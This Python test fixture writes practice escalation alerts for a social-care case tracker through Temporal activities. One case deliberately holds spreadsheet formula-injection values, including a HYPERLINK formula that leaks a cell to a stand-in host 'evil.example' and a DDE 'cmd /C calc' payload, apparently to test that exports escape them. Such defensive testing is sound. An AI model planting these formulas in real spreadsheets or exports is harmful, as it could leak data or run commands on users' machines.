"""Practice alert records for the tracker and briefing tests, written as the workflow writes them.

The rows go through the real record activities (``AlertActivities``) in
Temporal's ``ActivityEnvironment``: the alert row, then each step with its key
(workflow id + step number), the state it sets and the stage it leaves the alert
at, exactly as ``PracticeAlertWorkflow`` queues them. Moments are December 2025,
England (GMT), so they are in the past whenever the tests run.

Case A has two alerts:

- a1 (Mon 8 Dec 10:00, statutory_visit_late): the Team Manager answers in time
  (Thu 11 Dec); J. Smith is not satisfied (Fri 12 Dec): Service Manager; no
  response by Fri 19 Dec 17:00: Head of Service, who answers on Mon 22 Dec;
  finalised Tue 23 Dec.
- a0 (Mon 1 Dec 09:00, core_group_not_held): the Team Manager's deadline of Mon
  8 Dec 17:00 passes (the alert waits: ``notify_and_wait``); a late response on
  Wed 10 Dec; awaiting the chair.

Case I has one alert whose texts are spreadsheet formulas (formula injection).
"""

from __future__ import annotations

import uuid
from dataclasses import dataclass
from datetime import datetime
from typing import Any

from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
from temporalio.testing import ActivityEnvironment

from activities.alerts import AlertActivities
from models.alerts import AlertRecord, AlertRecordBatch, AlertStepRecord

CHAIR = "J. Smith"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
SUM = "@SUM(1)"
MINUS = "-2+3"


def at(text: str) -> datetime:
    """A December 2025 moment in England (GMT, so +00:00)."""
    return datetime.fromisoformat(f"2025-12-{text}+00:00")


@dataclass
class Cases:
    """What was written: the case references and workflow ids."""

    case_a: str
    a0: str
    a1: str
    case_i: str
    injected: str


class AlertRows:
    """Queue one alert's rows as the workflow does: keys numbered in order."""

    def __init__(self, case: str, suffix: str, raised: str, reason: str, **row: Any) -> None:
        self.wid = f"alert-{case}-{suffix}"
        self.case = case
        self.seq = 0
        fields: dict[str, Any] = {
            "workflow_id": self.wid,
            "case_reference": case,
            "procedure": "rutland",
            "reason_code": reason,
            "reason_title": reason,
            "description": "What went wrong",
            "agreed_action": "What is to be done",
            "raised_by": CHAIR,
            "raised_by_email": "j.smith@rutland.example.org",
            "raised_at": at(raised),
            "start_stage": "team_manager",
            "serious_or_urgent": False,
            "current_stage": "team_manager",
        }
        fields.update(row)
        self.record = AlertRecord(**fields)
        self.steps: list[AlertStepRecord] = []

    def step(self, kind: str, when: str, stage: str, **fields: Any) -> AlertRows:
        self.seq += 1
        current = stage if fields.get("state") else None
        self.steps.append(
            AlertStepRecord(
                key=f"{self.wid}/step-{self.seq:04d}",
                workflow_id=self.wid,
                case_reference=self.case,
                kind=kind,
                at=at(when),
                stage_id=stage,
                current_stage=current,
                **fields,
            )
        )
        return self

    async def write(self, sessionmaker: async_sessionmaker[AsyncSession]) -> None:
        """Write the rows through the record activities, as the workflow's recorder does."""
        activities = AlertActivities(sessionmaker)
        env = ActivityEnvironment()
        # The first write carries the row and the first steps, as the workflow does.
        await env.run(
            activities.record_alert_steps,
            AlertRecordBatch(alert=self.record, steps=self.steps[:2]),
        )
        for step in self.steps[2:]:
            await env.run(activities.record_alert_step, step)


def due(when: str) -> dict[str, Any]:
    return {"due_at": at(when)}


async def write_cases(sessionmaker: async_sessionmaker[AsyncSession]) -> Cases:
    """Write case A's two alerts and case I's injected one; return their ids."""
    tag = uuid.uuid4().hex[:8].upper()
    case_a, case_i = f"CR-A{tag}", f"CR-I{tag}"
    a1 = (
        AlertRows(case_a, "a1", "08T10:00:00", "statutory_visit_late")
        .step("raised", "08T10:00:00", "team_manager", actor=CHAIR, text="What went wrong")
        .step("stage_entered", "08T10:00:00", "team_manager", state="open", **due("15T17:00:00"))
        .step("reminder", "11T09:00:00", "team_manager", text="halfway", **due("15T17:00:00"))
        .step(
            "response",
            "11T10:05:00",
            "team_manager",
            actor="K. Jones, Team Manager",
            text="Visit booked for\n15 December",
            in_time=True,
            state="awaiting_finalisation",
            **due("15T17:00:00"),
        )
        .step(
            "not_satisfied",
            "12T09:30:00",
            "team_manager",
            actor=CHAIR,
            text="No date for the visit in the placement",
        )
        .step("stage_entered", "12T09:30:00", "service_manager", state="open", **due("19T17:00:00"))
        .step(
            "deadline_missed",
            "19T17:00:00",
            "service_manager",
            in_time=False,
            text="Stage 2: Service Manager did not respond by the deadline",
            **due("19T17:00:00"),
        )
        .step("stage_entered", "19T17:00:00", "head_of_service", state="open", **due("30T17:00:00"))
        .step(
            "response",
            "22T11:00:00",
            "head_of_service",
            actor="M. Head of Service",
            text="Visit done on 22 December",
            in_time=True,
            state="awaiting_finalisation",
            **due("30T17:00:00"),
        )
        .step("finalised", "23T15:00:00", "head_of_service", actor=CHAIR, state="finalised")
    )
    a0 = (
        AlertRows(case_a, "a0", "01T09:00:00", "core_group_not_held")
        .step("raised", "01T09:00:00", "team_manager", actor=CHAIR, text="What went wrong")
        .step("stage_entered", "01T09:00:00", "team_manager", state="open", **due("08T17:00:00"))
        .step("reminder", "04T09:00:00", "team_manager", text="halfway", **due("08T17:00:00"))
        .step(
            "deadline_missed",
            "08T17:00:00",
            "team_manager",
            in_time=False,
            text="Stage 1: Team Manager did not respond by the deadline",
            **due("08T17:00:00"),
        )
        .step(
            "response",
            "10T12:00:00",
            "team_manager",
            actor="K. Jones, Team Manager",
            text="Core group held on 9 December",
            in_time=False,
            state="awaiting_finalisation",
            **due("08T17:00:00"),
        )
    )
    injected = (
        AlertRows(
            case_i,
            "x1",
            "02T11:00:00",
            "+cmd|' /C calc'!A0",
            reason_title=MINUS,
            raised_by=HYPERLINK,
        )
        .step("raised", "02T11:00:00", "team_manager", actor=HYPERLINK, text=SUM)
        .step("stage_entered", "02T11:00:00", "team_manager", state="open", **due("09T17:00:00"))
        .step(
            "response",
            "03T11:00:00",
            "team_manager",
            actor=SUM,
            text=SUM,
            in_time=True,
            state="awaiting_finalisation",
            **due("09T17:00:00"),
        )
        .step("finalised", "04T11:00:00", "team_manager", actor=SUM, state="finalised")
    )
    for alert in (a1, a0, injected):
        await alert.write(sessionmaker)
    return Cases(case_a, a0.wid, a1.wid, case_i, injected.wid)
